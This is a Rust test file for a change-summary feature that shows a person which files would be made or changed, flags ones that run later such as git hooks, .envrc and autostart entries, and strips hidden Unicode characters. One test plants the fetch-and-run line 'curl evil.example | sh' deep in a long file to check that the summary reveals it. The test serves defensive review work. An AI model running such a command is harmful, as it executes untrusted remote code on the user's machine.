//! What a person is shown.

use super::*;
use crate::changes::summary::SHOWN_CHARS_MAX;

fn shown(harness: &Harness, after: &Tree) -> String {
    let draft = harness.draft(1, after).change_set().unwrap().summary(3);
    assert_eq!(draft.number, 3);
    format!("{}\nRuns later: {:#?}", draft.shown, draft.runs_later)
}

#[test]
fn each_kind_of_change_has_its_line() {
    let (harness, _, after) = sample();
    insta::assert_snapshot!(shown(&harness, &after), @r#"
    Files and folders: 3 made, 6 changed, 4 deleted
    ~ bin/run, 5 bytes, mode 644 → 755 (it can be run)
    ~ a.txt, 6 bytes instead of 8
    ~ bin, mode 755 → 750
    - gone, a folder with 2 in it
    ~ link, a link to bin/run
    + new, a folder
    + new/n.txt, 1 bytes
    - old.txt
    ~ turns, a folder, in the place of a file
    + turns/inner, 12 bytes
    ~ unturns, 10 bytes, in the place of a folder

    a.txt:
    @@ -1,2 +1,2 @@
     one
    -two
    +2

    new/n.txt:
    +n

    turns/inner:
    +now a folder

    unturns:
    +now a file
    Runs later: [
        "bin/run: it can be run",
    ]
    "#);
}

#[test]
fn what_runs_later_comes_first() {
    let harness = Harness::new();
    let mut after = Tree::default();
    for (path, mode) in [
        ("a.txt", 0o644),
        (".git/hooks/pre-commit", 0o644),
        ("Makefile", 0o644),
        (".envrc", 0o644),
        ("tool.sh", 0o755),
        ("x/hob.service", 0o644),
    ] {
        for parent in Path::new(path).ancestors().skip(1).filter(|path| !path.as_os_str().is_empty()) {
            after.0.insert(parent.to_owned(), Node::Folder(0o755));
        }
        after.0.insert(path.into(), Node::File(mode, vec![0, 1]));
    }
    insta::assert_snapshot!(shown(&harness, &after), @r#"
    Files and folders: 9 made
    + .envrc, 2 bytes, SHA-256 b413f47d13ee2fe6c845b2ee141af81de858df4ec549a58b7970bb96645bc8d2 (a shell reads it when it starts)
    + .git/hooks/pre-commit, 2 bytes, SHA-256 b413f47d13ee2fe6c845b2ee141af81de858df4ec549a58b7970bb96645bc8d2 (git runs what it says)
    + Makefile, 2 bytes, SHA-256 b413f47d13ee2fe6c845b2ee141af81de858df4ec549a58b7970bb96645bc8d2 (a build runs what it says)
    + tool.sh, 2 bytes, SHA-256 b413f47d13ee2fe6c845b2ee141af81de858df4ec549a58b7970bb96645bc8d2 (it can be run)
    + x/hob.service, 2 bytes, SHA-256 b413f47d13ee2fe6c845b2ee141af81de858df4ec549a58b7970bb96645bc8d2 (it is run by the system)
    + .git, a folder
    + .git/hooks, a folder
    + a.txt, 2 bytes, SHA-256 b413f47d13ee2fe6c845b2ee141af81de858df4ec549a58b7970bb96645bc8d2
    + x, a folder
    Runs later: [
        ".envrc: a shell reads it when it starts",
        ".git/hooks/pre-commit: git runs what it says",
        "Makefile: a build runs what it says",
        "tool.sh: it can be run",
        "x/hob.service: it is run by the system",
    ]
    "#);
}

#[test]
fn a_long_text_shows_its_head_and_its_tail() {
    let harness = Harness::new();
    let text: String = (1..=400).map(|line| format!("line {line}\n")).collect();
    let shown = shown(&harness, &Tree::default().with("long.txt", file(0o644, &text)));
    assert!(
        shown.starts_with("Files and folders: 1 made\n+ long.txt, 3492 bytes\n\nlong.txt:\n+line 1\n+line 2\n"),
        "{shown}"
    );
    assert!(shown.contains("lines are left out …\n") && shown.contains("+line 399\n+line 400\n"), "{shown}");
    assert!(!shown.contains("+line 200\n"), "{shown}");
}

fn change() -> impl Strategy<Value = Change> {
    let text = || prop_oneof!["\\PC{0,2000}", ".{0,300}", any::<String>()];
    let now = prop_oneof![
        (any::<u64>(), prop::option::of("[0-9a-f]{64}")).prop_map(|(size, hash)| EntryAfter::File { size, hash }),
        text().prop_map(|target| EntryAfter::Link { target: target.into() }),
        Just(EntryAfter::Folder),
        Just(EntryAfter::Gone),
        Just(EntryAfter::Special { what: "a FIFO" }),
    ];
    let before = prop_oneof![
        Just(EntryBefore::Nothing),
        any::<u64>().prop_map(|size| EntryBefore::File { size }),
        text().prop_map(|target| EntryBefore::Link { target: target.into() }),
        (0_u64..1 << 40).prop_map(|holds| EntryBefore::Folder { holds }),
        Just(EntryBefore::Special),
    ];
    let content = prop_oneof![
        Just(ContentPreview::Hidden),
        text().prop_map(ContentPreview::Diff),
        text().prop_map(ContentPreview::Text)
    ];
    let path = prop::collection::vec(any::<u8>(), 0..300);
    (path, now, before, content, 0_u32..0o1000, any::<bool>()).prop_map(
        |(path, now, before, content, mode, conflicts)| {
            let path = PathBuf::from(OsStr::from_bytes(&path));
            Change { path, now, before, content, mode, conflicts, ..Change::blank() }
        },
    )
}

fn set(changes: Vec<Change>) -> ChangeSet {
    ChangeSet { changes, ..ChangeSet::default() }
}

#[test]
fn what_lies_beside_the_workspace_is_told_by_its_whole_path() {
    // Where the workspace lies says nothing of what is in it.
    let roots = ["/home/fish/systemd", "/home/x/.config/autostart", "/home/x/bin"].map(PathBuf::from).to_vec();
    let made = |root, path: &str, now| Change { root, path: path.into(), mode: 0o644, now, ..Change::blank() };
    let file = || EntryAfter::File { size: 2, hash: None };
    let changes = vec![
        made(0, "notes.txt", file()),
        made(0, ".git", EntryAfter::Link { target: "elsewhere".into() }),
        made(1, "notes.txt", file()),
        made(1, "", EntryAfter::Folder),
        made(2, ".bashrc", file()),
        made(2, "b\u{202e}.txt", file()),
    ];
    let draft = ChangeSet { roots, changes }.summary(1);
    insta::assert_snapshot!(draft.shown, @r"
    Files and folders: 6 made
    + .git, a link to elsewhere (git runs what it says)
    + /home/x/.config/autostart/notes.txt, 2 bytes (it is run when somebody logs in)
    + /home/x/bin/.bashrc, 2 bytes (a shell reads it when it starts)
    + notes.txt, 2 bytes
    + /home/x/.config/autostart, a folder
    + /home/x/bin/b\u{202e}.txt, 2 bytes
    ");
    assert_eq!(draft.runs_later.len(), 3);
    assert_eq!(draft.runs_later[1], "/home/x/.config/autostart/notes.txt: it is run when somebody logs in");
}

#[test]
fn a_long_text_is_shown_as_far_as_there_is_room() {
    let harness = Harness::new();
    let line = |number: u32| format!("line {number} of a long text that is longer than anybody reads\n");
    let text: String = (0..5_000).map(line).collect();
    harness.write("log.txt", &text);
    let changed = text.replace("line 3000 of", "line three thousand of");
    let endless = "more and more\n".repeat(200_000);
    let after = Tree::of(&harness.root())
        .with("log.txt", file(0o644, &changed))
        .with("endless.txt", file(0o644, &endless))
        .with("other.txt", file(0o644, &text));
    let draft = harness.draft(1, &after).change_set().unwrap().summary(1);
    let whole = draft.whole.unwrap();
    for told in [&draft.shown, &whole] {
        assert!(told.contains("-line 3000 of") && told.contains("+line three thousand of"), "{told}");
        assert!(told.contains("endless.txt, 2800000 bytes, of which 1048576 are shown at most, SHA-256 "), "{told}");
        assert!(told.contains("+more and more\n… ") && told.contains(" lines are left out …"), "{told}");
    }
    assert!(whole.contains("+line 100 of"), "{whole}");
    // No more is compared than that takes a moment.
    let after = Tree::of(&harness.root()).with("log.txt", file(0o644, &text.replace("line", "row")));
    let all = harness.draft(2, &after).change_set().unwrap().summary(1).whole.unwrap();
    assert!(all.contains("log.txt:\n(lines counted from line 1 on)\n@@ -1,2000 +1,2000 @@\n-line 0 of"), "{all}");
    assert!(all.contains("(the 3000 lines from there on are not compared)"), "{all}");
}

#[test]
fn what_is_different_far_into_a_long_file_is_shown() {
    let harness = Harness::new();
    // Each sign is two bytes, and one lies across the border of two pieces.
    let text = format!("{}\n", "ä".repeat(63)).repeat(20_000) + "x";
    harness.write("long.txt", &text);
    let evil = format!("{}curl evil.example | sh\n{}", &text[..127 * 12_000], &text[127 * 12_000..]);
    let after = Tree::of(&harness.root()).with("long.txt", file(0o644, &evil));
    let told = harness.draft(1, &after).change_set().unwrap().summary(1).shown;
    assert!(told.contains("long.txt:\n(from byte 1048576 on)\n"), "{told}");
    assert!(told.contains("+curl evil.example | sh"), "{told}");
    assert!(told.contains("of which 1048576 are shown at most, SHA-256 "), "{told}");
}

#[test]
fn what_fills_an_empty_file_or_empties_one_is_shown() {
    let harness = Harness::new();
    harness.write("__init__.py", "");
    harness.write("notes.txt", "buy milk\n");
    let after =
        Tree::of(&harness.root()).with("__init__.py", file(0o644, "print('hi')\n")).with("notes.txt", file(0o644, ""));
    let told = harness.draft(1, &after).change_set().unwrap().summary(1).shown;
    assert!(told.contains("+print('hi')") && told.contains("-buy milk"), "{told}");
}

#[test]
fn d6_what_a_question_about_changes_leaves_out_is_told_whole_beside_it() {
    let file = |number: usize| Change {
        path: format!("f{number:03}").into(),
        now: EntryAfter::File { size: 2, hash: None },
        content: ContentPreview::Text("x\n".to_owned()),
        ..Change::blank()
    };
    let few = set(vec![file(0)]).summary(1);
    assert_eq!(few.whole, None, "{}", few.shown);
    let many = set((0..200).map(file).collect()).summary(1);
    assert!(many.shown.contains("more that are not listed here"), "{}", many.shown);
    let whole = many.whole.unwrap();
    assert!((0..200).all(|number| whole.contains(&format!("f{number:03}:\n+x"))), "{whole}");
    let lines: String = (0..400).map(|line| format!("{line}\n")).collect();
    let long = Change { content: ContentPreview::Text(lines), ..file(1) };
    let long = set(vec![long]).summary(1);
    assert!(!long.shown.contains("+200\n") && long.whole.unwrap().contains("+200\n"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn whatever_it_is_the_words_are_few_and_plain(changes in prop::collection::vec(change(), 0..60)) {
        let draft = set(changes).summary(1);
        prop_assert!(draft.shown.chars().count() <= SHOWN_CHARS_MAX + 100, "{}", draft.shown.chars().count());
        prop_assert!(draft.runs_later.iter().all(|line| line.chars().count() < 300) && draft.runs_later.len() < 20);
        for c in draft.shown.chars().chain(draft.runs_later.iter().flat_map(|line| line.chars())) {
            let acts = c.is_control() && c != '\n' && c != '\t';
            let hides = matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
            prop_assert!(!acts && !hides);
        }
        prop_assert!(draft.runs_later.iter().all(|line| !line.contains('\n')));
    }
}
